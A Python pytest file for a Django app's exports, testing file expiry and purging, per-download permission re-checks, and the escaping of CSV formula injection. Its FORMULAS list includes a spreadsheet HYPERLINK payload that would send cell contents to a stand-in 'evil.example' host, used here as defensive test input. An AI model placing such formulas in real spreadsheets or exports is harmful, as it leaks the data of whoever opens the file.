"""Export files expire, every download judges the account again as it is now, and CSV cells cannot run as
spreadsheet formulas."""
# ruff: noqa: F811 - the fixtures of test_exports, imported, are the arguments of these tests

import csv
import datetime as dt
import io
from pathlib import Path

import pytest
from django.conf import settings as django_settings
from django.contrib.gis.geos import Point
from django.utils import timezone

from grid.models import Role
from layers.io.exports import export_run
from layers.io.imports import import_run
from layers.models import ExportJob, Place
from layers.tasks import layers_files_purge_task
from project.celery import app
from tests.factories import UserFactory
from tests.layers.test_exports import eager, media, register, urlpatterns  # noqa: F401 - fixtures and URLs
from tests.layers.test_imports import job_for

pytestmark = pytest.mark.urls(__name__)


def export(client, eager, layer: str = "places", fmt: str = "csv") -> tuple[int, str]:
    response = eager(client, {"layer": layer, "format": fmt})
    assert response.status_code == 201, response.content
    job_id = response.json()["id"]
    return job_id, f"/api/v1/exports/{job_id}/download/"


def age(job_id: int, hours: float) -> ExportJob:
    ExportJob.objects.filter(pk=job_id).update(finished=timezone.now() - dt.timedelta(hours=hours))
    return ExportJob.objects.get(pk=job_id)


# --- expiry -----------------------------------------------------------------------------------------------------------


def test_an_expired_export_answers_410_and_its_file_is_deleted(register, people, api_as, eager):
    client = api_as(people["admin"])
    job_id, url = export(client, eager)
    job = ExportJob.objects.get(pk=job_id)
    stored = Path(job.file.path)
    state = client.get(f"/api/v1/exports/{job_id}/").json()
    assert dt.datetime.fromisoformat(state["expires"]) == job.finished + dt.timedelta(hours=24)
    assert client.get(url).status_code == 200
    age(job_id, 23.9)
    assert client.get(url).status_code == 200
    age(job_id, 24.1)
    response = client.get(url)
    assert response.status_code == 410 and response.json()["detail"]
    assert not stored.exists() and not ExportJob.objects.get(pk=job_id).file
    assert client.get(f"/api/v1/exports/{job_id}/").json()["download_url"] is None
    assert client.get(url).status_code == 410  # and so it stays


def test_the_retention_is_a_setting(register, people, api_as, eager, settings):
    settings.EXPORT_RETENTION_HOURS = 1
    client = api_as(people["admin"])
    job_id, url = export(client, eager)
    age(job_id, 0.9)
    assert client.get(url).status_code == 200
    age(job_id, 1.1)
    assert client.get(url).status_code == 410


def test_the_purge_task_deletes_expired_files_only_and_is_on_the_beat_schedule(register, people):
    old, fresh = (
        export_run(job=ExportJob.objects.create(created_by=people["admin"], layer="places", format="csv"))
        for _ in range(2)
    )
    old_path, fresh_path = Path(old.file.path), Path(fresh.file.path)
    age(old.pk, 25)
    assert layers_files_purge_task()["exports"] == 1
    assert not old_path.exists() and fresh_path.exists()
    assert not ExportJob.objects.get(pk=old.pk).file and ExportJob.objects.get(pk=fresh.pk).file
    assert layers_files_purge_task()["exports"] == 0
    schedule = [entry["task"] for entry in django_settings.CELERY_BEAT_SCHEDULE.values()]
    assert "layers.tasks.layers_files_purge_task" in schedule
    assert "layers.tasks.layers_files_purge_task" in app.tasks


# --- each download judges the account as it is now ----------------------------------------------------------------


def test_an_unmasked_export_is_refused_once_the_account_lost_its_clearance(register, people, api_as, eager):
    cleared = UserFactory(role=Role.ADMINISTRATOR, areas=[people["admin"].areas.get()], sensitive_clearance=True)
    client = api_as(cleared)
    job_id, url = export(client, eager, "people")
    assert client.get(url).status_code == 200
    cleared.sensitive_clearance = False
    cleared.save(update_fields=["sensitive_clearance"])
    response = client.get(url)
    assert response.status_code == 403 and response.json()["detail"]
    cleared.sensitive_clearance = True
    cleared.save(update_fields=["sensitive_clearance"])
    assert client.get(url).status_code == 200


def test_a_masked_export_is_refused_once_the_account_s_area_changed(register, people, api_as, eager, territory):
    dispatcher = people["dispatcher_a"]
    client = api_as(dispatcher)
    people_job, people_url = export(client, eager, "people")
    _places_job, places_url = export(client, eager, "places")
    assert client.get(people_url).status_code == 200
    dispatcher.areas.set([territory.community_b])
    assert client.get(people_url).status_code == 403
    assert client.get(places_url).status_code == 200  # a public layer's rows are everybody's
    dispatcher.areas.set([territory.community_a])
    assert client.get(people_url).status_code == 200
    dispatcher.role = Role.RESIDENT  # the people layer is closed to residents
    dispatcher.save(update_fields=["role"])
    assert client.get(people_url).status_code == 403


def test_a_superuser_does_not_take_another_account_s_file(register, people, api_as, eager):
    job_id, url = export(api_as(people["admin"]), eager)
    boss = UserFactory(username="root", is_superuser=True)
    assert api_as(boss).get(url).status_code == 404
    assert api_as(people["dispatcher_a"]).get(url).status_code == 404


# --- formulas ---------------------------------------------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"点击")', "+1+1", "-1+1", "@SUM(A1)", "\tx", "\rx", "'=x"]


def test_csv_cells_that_a_spreadsheet_would_run_are_quoted_and_import_back(territory, people):
    for i, name in enumerate(FORMULAS):
        Place.objects.create(
            code=f"F{i}",
            name=name,
            kind="shopping",
            phone="+8613800000000",
            location=Point(109.93, 35.19, srid=4326),
            grid=territory.grids["A-S"],
        )
    Place.objects.create(code="OK", name="老王面馆", kind="dining", location=Point(109.93, 35.19, srid=4326))
    job = export_run(job=ExportJob.objects.create(created_by=people["admin"], layer="places", format="csv"))
    content = Path(job.file.path).read_bytes().decode("utf-8-sig")  # "\r" in a cell as it is
    rows = {row["code"]: row for row in csv.DictReader(io.StringIO(content, newline=""))}
    assert [rows[f"F{i}"]["name"] for i in range(len(FORMULAS))] == ["'" + name for name in FORMULAS]
    assert rows["F0"]["phone"] == "'+8613800000000" and rows["OK"]["name"] == "老王面馆"
    assert float(rows["OK"]["X"]) == pytest.approx(109.93)  # numbers stay numbers
    # the file imports back to the stored names (cells a CSV import strips of surrounding blanks aside)
    Place.objects.filter(code__startswith="F").update(name="changed", phone="")
    again = import_run(job=job_for(Path(job.file.path).read_bytes(), "places.csv", "places"))
    assert again.status == "done", again.report
    names = dict(Place.objects.values_list("code", "name"))
    assert [names[f"F{i}"] for i in range(len(FORMULAS))] == [name.strip() for name in FORMULAS]
    assert Place.objects.get(code="F0").phone == "+8613800000000"
